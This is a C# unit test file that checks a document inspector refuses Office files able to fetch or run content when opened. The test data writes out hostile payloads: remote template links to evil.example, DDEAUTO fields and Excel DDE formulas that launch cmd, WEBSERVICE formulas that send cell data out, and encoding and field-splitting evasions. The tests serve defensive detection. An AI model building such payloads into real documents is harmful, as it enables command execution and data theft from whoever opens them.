using System.IO.Compression;
using ChatSales.Adapters.Drawing;
using ChatSales.Core.Conversation;
using ChatSales.Core.Evidence;
using ChatSales.Simulators.Files;
using Shouldly;
using Xunit;

namespace ChatSales.Core.Tests.Evidence;

/// <summary>Office documents that fetch or run something when opened, and harmless ones.</summary>
public sealed class ActiveOfficeTests
{
    private const string Xml = "application/xml";
    private const string Begin = "<w:fldChar w:fldCharType=\"begin\"/>";
    private const string Separate = "<w:fldChar w:fldCharType=\"separate\"/>";
    private const string End = "<w:fldChar w:fldCharType=\"end\"/>";
    private readonly Inspection inspection = new(new SkiaPictureReader(), new PdfPigReader());

    [Theory]
    [InlineData(OfficeFiles.WordMain, "attachedTemplate", "https://evil.example/a.dotm")]
    [InlineData(OfficeFiles.WordMain, "attachedTemplate", "\\\\evil\\share\\a.dotm")]
    [InlineData(OfficeFiles.WordMain, "attachedTemplate", "file:///\\\\evil\\share\\a.dotm")]
    [InlineData(OfficeFiles.WordMain, "attachedTemplate", "file:////evil/share/a.dotm")]
    [InlineData(OfficeFiles.WordMain, "attachedTemplate", "file://evil/share/a.dotm")]
    [InlineData(OfficeFiles.WordMain, "attachedTemplate", "http:%2F%2Fevil.example/a.dotm")]
    [InlineData(OfficeFiles.WordMain, "attachedTemplate", "http://evil.example/a.dotm", false)]
    [InlineData(OfficeFiles.WordMain, "frame", "http://evil.example/a.htm")]
    [InlineData(OfficeFiles.WordMain, "subDocument", "\\\\evil\\a.docx")]
    [InlineData(OfficeFiles.ExcelMain, "oleObject", "http://evil.example/a.hta")]
    [InlineData(OfficeFiles.PowerPointMain, "oleObject", "script:http://evil.example/a.sct")]
    public void Those_that_fetch_templates_or_objects_from_elsewhere_are_refused(
        string main, string relationship, string target, bool external = true) =>
        WhyNot(OfficeFiles.Related(main, relationship, target, external)).ShouldBe(EvidenceTexts.RemoteTemplate);

    [Theory]
    [InlineData(OfficeFiles.WordMain, "attachedTemplate", "file:///C:\\Users\\li\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm")]
    [InlineData(OfficeFiles.WordMain, "attachedTemplate", "file:///Users/li/Library/Templates/Normal.dotm")]
    [InlineData(OfficeFiles.WordMain, "attachedTemplate", "Normal.dotm")]
    [InlineData(OfficeFiles.WordMain, "hyperlink", "https://example.com/")]
    [InlineData(OfficeFiles.WordMain, "image", "https://example.com/a.png")]
    [InlineData(OfficeFiles.WordMain, "oleObject", "embeddings/oleObject1.bin", false)]
    [InlineData(OfficeFiles.WordMain, "oleObject", "/word/embeddings/oleObject1.bin", false)]
    [InlineData(OfficeFiles.ExcelMain, "externalLinkPath", "file:///\\\\server\\prices.xlsx")]
    [InlineData(OfficeFiles.PowerPointMain, "video", "https://example.com/a.mp4")]
    public void Links_pictures_and_templates_of_ones_own_are_taken(string main, string relationship, string target, bool external = true) =>
        inspection.Inspect(OfficeFiles.Related(main, relationship, target, external)).IsRefused.ShouldBeFalse();

    [Theory]
    [InlineData("<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"</w:instrText>")]
    [InlineData("<w:instrText> </w:instrText><w:instrText>D</w:instrText></w:r><w:r><w:instrText>de</w:instrText><w:instrText> cmd</w:instrText>")]
    [InlineData("<w:instrText>QUOTE 1</w:instrText><w:fldChar w:fldCharType=\"begin\"/><w:instrText><![CDATA[DDE]]> cmd</w:instrText>")]
    [InlineData("<w:fldSimple w:instr=' DDEAUTO cmd \"/k calc\"'/>")]
    [InlineData(Begin + "<w:instrText>QUOTE 68 68 69</w:instrText>" + Separate + "<w:t>DDE</w:t>" + End + "<w:instrText> cmd</w:instrText>" + End)]
    [InlineData("<w:instrText> d</w:instrText>" + Begin + "<w:instrText>QUOTE de</w:instrText>" + End + "<w:instrText> cmd</w:instrText>" + End)]
    [InlineData("<w:fldSimple w:instr='QUOTE 68 68 69'/><w:instrText> cmd</w:instrText>" + End)]
    public void Fields_that_ask_programs_are_refused(string field)
    {
        foreach (var name in (string[])["word/header1.xml", "word/header1.txt"])
        {
            const string Header = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml";
            var content = $"<w:hdr xmlns:w=\"w\"><w:r>{Begin}{field}</w:r></w:hdr>";
            WhyNot(OfficeFiles.With(OfficeFiles.WordMain, (name, Header, content))).ShouldBe(EvidenceTexts.Dde);
        }
    }

    [Theory]
    [InlineData("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>")]
    [InlineData("xl/worksheets/sheet1.xml", "<c><f>cmd|'/c calc'!A0</f></c>")]
    [InlineData("xl/worksheets/sheet1.xml", "<c><f>1+<![CDATA[cmd]]>|'/c calc'!A0</f></c>")]
    [InlineData("xl/workbook.xml", "<definedName name=\"a\">cmd|'/c calc'!A0</definedName>")]
    public void Cells_that_ask_programs_are_refused(string part, string content) =>
        WhyNot(OfficeFiles.With(OfficeFiles.ExcelMain, (part, Xml, content))).ShouldBe(EvidenceTexts.Dde);

    [Theory]
    [InlineData("_xlfn.WEBSERVICE(\"http://evil.example/?\"&amp;A1)")]
    [InlineData("IF(A1,_xlfn.webservice (A2),0)")]
    [InlineData("_xlfn.IMAGE(\"https://evil.example/\"&amp;A1)")]
    [InlineData("RTD(\"evil.server\",,\"a\")")]
    [InlineData("1+<![CDATA[_xlfn.WEB]]>SERVICE(A1)")]
    [InlineData("MAP(A1:A3,_xleta.WEBSERVICE)")]
    public void Formulas_that_fetch_are_refused(string formula)
    {
        WhyNot(OfficeFiles.With(OfficeFiles.ExcelMain, ("xl/worksheets/sheet1.xml", Xml, $"<c><f>{formula}</f></c>"))).ShouldBe(EvidenceTexts.Fetches);
        WhyNot(OfficeFiles.With(OfficeFiles.ExcelMain, ("xl/workbook.xml", Xml, $"<definedName name=\"a\">{formula}</definedName>")))
            .ShouldBe(EvidenceTexts.Fetches);
    }

    [Theory]
    [InlineData("<connections><connection id=\"1\" refreshOnLoad=\"1\"><webPr url=\"http://evil.example/\"/></connection></connections>", true)]
    [InlineData("<connections><connection id=\"1\" interval=\"5\"/></connections>", true)]
    [InlineData("<queryTable refreshOnLoad=\"true\" connectionId=\"1\"/>", true)]
    [InlineData("<pivotCacheDefinition refreshOnLoad=\"1\"><cacheSource type=\"external\" connectionId=\"1\"/></pivotCacheDefinition>", true)]
    [InlineData("<pivotCacheDefinition refreshOnLoad=\"1\"><cacheSource type=\"worksheet\"/></pivotCacheDefinition>", false)]
    [InlineData("<connections><connection id=\"1\" refreshOnLoad=\"0\" interval=\"0\"><dbPr connection=\"Provider=x\"/></connection></connections>", false)]
    public void Data_that_is_fetched_at_each_opening_is_refused(string content, bool refused) =>
        WhyNot(OfficeFiles.With(OfficeFiles.ExcelMain, ("xl/a.xml", Xml, content))).ShouldBe(refused ? EvidenceTexts.Fetches : null);

    [Fact]
    public void Controls_that_are_programs_are_refused_and_tick_boxes_of_a_sheet_are_taken()
    {
        foreach (var main in (string[])[OfficeFiles.WordMain, OfficeFiles.ExcelMain, OfficeFiles.PowerPointMain])
        {
            WhyNot(OfficeFiles.Related(main, "control", "activeX/activeX1.xml", external: false)).ShouldBe(EvidenceTexts.Controls);
            WhyNot(OfficeFiles.With(main, ("a/activeX1.xml", "application/vnd.ms-office.activeX+xml", "<ax:ocx xmlns:ax=\"a\"/>")))
                .ShouldBe(EvidenceTexts.Controls);
        }

        const string TickBox = "application/vnd.ms-excel.controlproperties+xml";
        WhyNot(OfficeFiles.Related(OfficeFiles.ExcelMain, "ctrlProp", "../ctrlProps/ctrlProp1.xml", external: false)).ShouldBeNull();
        WhyNot(OfficeFiles.With(OfficeFiles.ExcelMain, ("xl/ctrlProps/ctrlProp1.xml", TickBox, "<formControlPr objectType=\"CheckBox\"/>")))
            .ShouldBeNull();
    }

    [Fact]
    public void Other_fields_and_formulas_are_taken()
    {
        const string Field = $"<w:p xmlns:w=\"w\">{Begin}<w:instrText>HYPERLINK \"https://example.com/dde\"</w:instrText>{Separate}"
            + $"<w:t>DDE</w:t><w:fldSimple w:instr=\"PAGE\"/>{End}</w:p>";
        inspection.Inspect(OfficeFiles.With(OfficeFiles.WordMain, ("word/header1.xml", Xml, Field))).IsRefused.ShouldBeFalse();
        foreach (var formula in (string[])
        [
            "A1&amp;\"a|b\"", "'a|b'!A1", "T[a|b]", "SUM(A1:A9)", "HYPERLINK(\"https://example.com/\")",
            "_xlfn.DISPIMG(\"ID_1\",1)", "\"IMAGE(1)\"&amp;A1", "MYIMAGE(A1)", "RTD!A1", "'RTD('!A1"])
        {
            WhyNot(OfficeFiles.With(OfficeFiles.ExcelMain, ("xl/sheet1.xml", Xml, $"<c><f>{formula}</f><v>a|b</v></c>"))).ShouldBeNull();
        }
    }

    [Theory]
    [InlineData("<w:instrText>= </w:instrText>" + Begin + "<w:instrText>NUMPAGES</w:instrText>" + End + "<w:instrText> - 1</w:instrText>" + End)]
    [InlineData("<w:instrText>IF </w:instrText>" + Begin + "<w:instrText>PAGE</w:instrText>" + End + "<w:instrText> = 1 a b</w:instrText>" + End)]
    [InlineData("<w:instrText>TOC</w:instrText>" + Separate + Begin + "<w:instrText>PAGEREF a</w:instrText>" + Separate + End + End)]
    [InlineData("<w:instrText>DATE </w:instrText>" + End + "<w:fldSimple w:instr='PAGE'/>")]
    public void Fields_within_fields_are_taken(string field)
    {
        var content = $"<w:hdr xmlns:w=\"w\"><w:r>{Begin}{field}</w:r></w:hdr>";
        WhyNot(OfficeFiles.With(OfficeFiles.WordMain, ("word/header1.xml", Xml, content))).ShouldBeNull();
    }

    [Fact]
    public void Web_pages_as_parts_and_slides_that_start_programs_are_refused()
    {
        WhyNot(OfficeFiles.Related(OfficeFiles.WordMain, "aFChunk", "afchunk.dat", external: false)).ShouldBe(EvidenceTexts.WebPagePart);
        WhyNot(OfficeFiles.With(OfficeFiles.WordMain, ("word/a.bin", "message/rfc822", "MIME-Version: 1.0"))).ShouldBe(EvidenceTexts.WebPagePart);
        WhyNot(Slide("ppaction://program")).ShouldBe(EvidenceTexts.Launch);
        WhyNot(Slide("ppaction://hlinksldjump")).ShouldBeNull();
    }

    [Fact]
    public void A_drawing_with_a_document_type_is_no_part_that_is_read() =>
        WhyNot(OfficeFiles.With(OfficeFiles.WordMain, ("word/media/image1.svg", "image/svg+xml", "<!DOCTYPE svg><svg/>"))).ShouldBeNull();

    [Fact]
    public void A_document_within_a_document_is_no_better() =>
        WhyNot(OfficeFiles.Holding("word/embeddings/a.docx", OfficeFiles.Related(OfficeFiles.WordMain, "attachedTemplate", "https://evil.example/")))
            .ShouldBe(EvidenceTexts.RemoteTemplate);

    // In UTF-7, where a reader of UTF-8 sees no markup at all.
    [Theory]
    [InlineData("utf-7")]
    [InlineData("UNICODE-1-1-UTF-7")]
    [InlineData("csUnicode11UTF7")]
    [InlineData("HZ-GB-2312")]
    [InlineData("csISO2022KR")]
    public void A_part_that_says_the_same_in_other_characters_is_refused(string encoding) =>
        WhyNot(OfficeFiles.With(OfficeFiles.WordMain, (
            "_rels/main.xml.rels", Xml, $"<?xml version=\"1.0\" encoding=\"{encoding}\"?><Relationships>+ADw-Relationship/+AD4-</Relationships>")))
            .ShouldBe(EvidenceTexts.BrokenDocument);

    // What a reader compares without escapes, or takes from the first of two types, is read here too.
    [Theory]
    [InlineData("/word/fields%2Ebin", "application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml", "/word/other.bin", "image/png")]
    [InlineData("/word/fields.bin", "application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml", "/WORD/fields.bin", "image/png")]
    public void A_part_that_is_xml_under_any_of_its_names_and_types_is_read(string name, string type, string other, string otherType)
    {
        using var bytes = new MemoryStream();
        bytes.Write(OfficeFiles.Word());
        using (var zip = new ZipArchive(bytes, ZipArchiveMode.Update, leaveOpen: true))
        {
            var entry = zip.GetEntry("[Content_Types].xml")!;
            using var reader = new StreamReader(entry.Open());
            var types = reader.ReadToEnd();
            reader.Dispose();
            entry.Delete();
            Write("[Content_Types].xml", types.Replace(
                "</Types>", $"""<Override PartName="{name}" ContentType="{type}"/><Override PartName="{other}" ContentType="{otherType}"/></Types>""",
                StringComparison.Ordinal));
            Write("word/fields.bin", "<w:ftr xmlns:w=\"w\"><w:instrText>DDEAUTO cmd</w:instrText></w:ftr>");

            void Write(string part, string content)
            {
                using var writer = new StreamWriter(zip.CreateEntry(part).Open());
                writer.Write(content);
            }
        }

        WhyNot(bytes.ToArray()).ShouldBe(EvidenceTexts.Dde);
    }

    [Fact]
    public void An_archive_is_refused_within_a_document_too() =>
        WhyNot(OfficeFiles.Holding("word/embeddings/a.zip", OfficeFiles.WithParts(("a.csv", "text/csv"))))
            .ShouldBe(EvidenceTexts.Archive);

    private static byte[] Slide(string action) =>
        OfficeFiles.With(OfficeFiles.PowerPointMain, ("ppt/slides/slide1.xml", Xml, $"<a:hlinkClick xmlns:a=\"a\" action=\"{action}\"/>"));

    private Message? WhyNot(byte[] file) => inspection.Inspect(file).Refusal?.Message;
}
